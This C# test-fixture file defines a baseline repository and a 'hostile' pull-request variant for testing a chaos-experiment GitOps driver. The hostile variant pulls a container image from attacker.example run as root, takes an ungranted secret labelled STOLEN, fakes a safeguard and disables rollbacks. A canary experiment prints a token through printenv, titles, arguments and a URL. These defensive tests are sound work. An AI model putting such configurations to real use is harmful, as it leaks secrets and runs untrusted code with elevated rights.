namespace Reliably.GitOps.Drivers;

/// <summary>What a repository holds whose runs on pull requests are tried, as its base has it and as somebody hostile changes it.</summary>
internal static class RunFiles
{
    /// <summary>A plan, a secret and a safeguard that people have reviewed.</summary>
    public static (string Path, string Text)[] Base(GuardEndpoint guard, string timeout = "10m") =>
    [
        ("experiments/a.yaml", Experiment("echo of the base")),
        ("environments/staging.yaml", "envvars:\n- { var_name: TARGET, value: of-base }\nsecrets:\n- { var_name: TOKEN, key: token, from: { env: STAGING_TOKEN } }\n"),
        ("integrations/steady.yaml", $"type: safeguard\ntitle: Checkout is steady\nurl: \"{guard.Url}\"\nfrequency: 200ms\n"),
        ("plans/nightly.yaml", $"title: Nightly\nexperiments: [a]\ndeployment: here\nenvironment: staging\nintegrations: [steady]\nrollback-strategy: always\ntimeout: {timeout}\nschedule: {{ type: manual }}\n"),
    ];

    /// <summary>Another target, a secret that nobody granted to staging, another place, no guard, no rollbacks and more time.</summary>
    public static (string Path, string? Text)[] Hostile(GuardEndpoint theirs) =>
    [
        ("environments/staging.yaml", "envvars:\n- { var_name: TARGET, value: of-head }\nsecrets:\n- { var_name: STOLEN, key: stolen, from: { env: STAGING_OTHER } }\n"),
        ("deployments/here.yaml", "type: container\nimage: attacker.example/evil:1\nuser: \"0:0\"\nnetwork: bridge\n"),
        ("integrations/steady.yaml", $"type: safeguard\ntitle: Always well\nurl: \"{theirs.Url}\"\nfrequency: 200ms\n"),
        ("plans/nightly.yaml", "title: Nightly\nexperiments: [a]\ndeployment: local\nenvironment: staging\nrollback-strategy: never\ntimeout: 23h\nschedule: { type: manual }\n"),
        ("reliably.yaml", "guardrails: { max-timeout: 23h }\n"),
    ];

    /// <summary>
    /// Says its secret in every way it can: in titles and names, arguments, output, errors and a file name; then it waits for a file <c>go-on</c> beside the
    /// file <c>began</c> that it makes, and does one thing more.
    /// </summary>
    public static string Telling { get; } =
        """
        title: The canary ${token} sings
        description: d
        configuration:
          token: { type: env, key: TOKEN }
        method:
        - { type: action, name: "says ${token}", provider: { type: process, path: sh, arguments: [-c, "echo \"$TARGET, ${STOLEN-nothing stolen}\"; printenv TOKEN; printenv TOKEN >&2; exit 3"] } }
        - { type: action, name: argument, provider: { type: process, path: echo, arguments: ["${token}"] } }
        - { type: action, name: no such file, provider: { type: process, path: sh, arguments: ["${token}"] } }
        - { type: action, name: exception, provider: { type: http, url: "http://127.0.0.1:1/${token}", timeout: 5 } }
        - { type: action, name: "waits ${token}", provider: { type: process, path: sh, arguments: [-c, "touch began; while ! test -e go-on; do sleep 0.1; done"], timeout: 300 } }
        - { type: action, name: after, provider: { type: process, path: echo, arguments: [after] } }
        rollbacks:
        - { type: action, name: undo, provider: { type: process, path: sh, arguments: [-c, "echo undone $TARGET; printenv TOKEN"] } }

        """;

    /// <summary>One action, and a rollback.</summary>
    public static string Experiment(string act) =>
        $$"""
        title: Nothing breaks
        description: The smallest experiment.
        method:
        - { type: action, name: act, provider: { type: process, path: sh, arguments: [-c, "{{act}}"], timeout: 300 } }
        rollbacks:
        - { type: action, name: undo, provider: { type: process, path: echo, arguments: [undone] } }

        """;

    /// <summary>Makes a file, and then waits to be ended.</summary>
    public static string Waiting { get; } = Experiment("touch began; sleep 250");
}
